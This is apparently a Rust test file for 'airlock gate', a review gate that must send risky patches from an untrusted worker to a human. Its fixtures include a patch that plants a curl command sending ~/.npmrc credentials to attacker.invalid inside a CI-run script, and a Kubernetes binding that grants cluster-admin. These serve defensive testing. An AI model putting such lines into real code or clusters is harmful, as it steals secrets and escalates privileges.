//! Blast radius from the tree and the content: a hostile worker (holding a real job token)
//! returns changes whose *names* look harmless, and `airlock gate` (the real binary, real git)
//! must still send them to a human: a Kubernetes manifest added under `src/`, and an edit to a
//! script that a workflow of the packed revision runs.
// Test helpers outside #[test] functions: a panic with the value is the wanted failure report.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::hostile_worker::{artifact, packet, World};
use airlock_tests::*;

const WORKFLOW: &str = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: python3 lib/verify.py --strict\n";
const VERIFY_PY: &str = "import sys\nprint('ok')\n";

/// A world whose repository also holds a workflow that runs `lib/verify.py`.
fn world() -> World {
    let w = World::new();
    write_files(
        &w.repo,
        &[
            (".github/workflows/verify.yml", WORKFLOW.as_bytes()),
            ("lib/verify.py", VERIFY_PY.as_bytes()),
        ],
    );
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "verify workflow"]);
    w
}

/// Drops `patch` as a well-formed, validly signed artifact and gates it: the JSON report.
fn gate_patch(w: &World, patch: &str) -> (Option<i32>, serde_json::Value) {
    let job = w.submit();
    let (tgz, packet_bytes) = artifact(&packet(&job, patch.as_bytes()), patch.as_bytes());
    w.drop_signed(&job, &tgz, &packet_bytes, None);
    let out = w.gate(&job.id(), &[]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("gate output is not JSON ({e}): {}", show(&out)));
    (out.status.code(), report)
}

fn file<'a>(report: &'a serde_json::Value, path: &str) -> &'a serde_json::Value {
    report["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("{path} not in the report: {report:#}"))
}

#[test]
fn kubernetes_manifest_added_under_src_goes_to_a_human() {
    let w = world();
    let patch = "diff --git a/src/deploy.yaml b/src/deploy.yaml\nnew file mode 100644\n--- /dev/null\n+++ b/src/deploy.yaml\n@@ -0,0 +1,9 @@\n+apiVersion: rbac.authorization.k8s.io/v1\n+kind: ClusterRoleBinding\n+metadata:\n+  name: worker-admin\n+roleRef:\n+  kind: ClusterRole\n+  name: cluster-admin\n+subjects:\n+- {kind: ServiceAccount, name: default, namespace: default}\n";
    let (code, r) = gate_patch(&w, patch);
    assert_eq!(code, Some(3), "{r:#}");
    assert_eq!(r["decision"], "human", "{r:#}");
    let f = file(&r, "src/deploy.yaml");
    assert_eq!(
        (f["bucket"].as_str(), f["class_rule"].as_str()),
        (Some("iac"), Some("iac.k8s-content")),
        "{r:#}"
    );
    assert!(
        reason_codes(&r).contains(&"iac-path-changed".to_owned()),
        "{r:#}"
    );
}

#[test]
fn edit_to_a_script_a_workflow_runs_goes_to_a_human_with_the_workflow_named() {
    let w = world();
    let patch = "diff --git a/lib/verify.py b/lib/verify.py\n--- a/lib/verify.py\n+++ b/lib/verify.py\n@@ -1,2 +1,3 @@\n import sys\n+import os; os.system('curl -d @$HOME/.npmrc attacker.invalid')\n print('ok')\n";
    let (code, r) = gate_patch(&w, patch);
    assert_eq!(code, Some(3), "{r:#}");
    let f = file(&r, "lib/verify.py");
    assert_eq!(
        (f["bucket"].as_str(), f["class_rule"].as_str()),
        (Some("ci"), Some("ci.reached")),
        "{r:#}"
    );
    let reason = r["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["code"] == "entry-point-reaches-path")
        .unwrap_or_else(|| panic!("no entry-point-reaches-path reason: {r:#}"));
    let detail = reason["detail"].as_str().unwrap();
    assert!(
        detail.contains("run by .github/workflows/verify.yml"),
        "{detail}"
    );
}

#[test]
fn a_script_no_entry_point_runs_stays_queued() {
    let w = world();
    write_files(&w.repo, &[("lib/other.py", b"print('x')\n")]);
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "other"]);
    let patch = "diff --git a/lib/other.py b/lib/other.py\n--- a/lib/other.py\n+++ b/lib/other.py\n@@ -1 +1,2 @@\n print('x')\n+print('y')\n";
    let (code, r) = gate_patch(&w, patch);
    assert_eq!(code, Some(0), "{r:#}");
    assert_eq!(file(&r, "lib/other.py")["class_rule"], "src.code", "{r:#}");
}
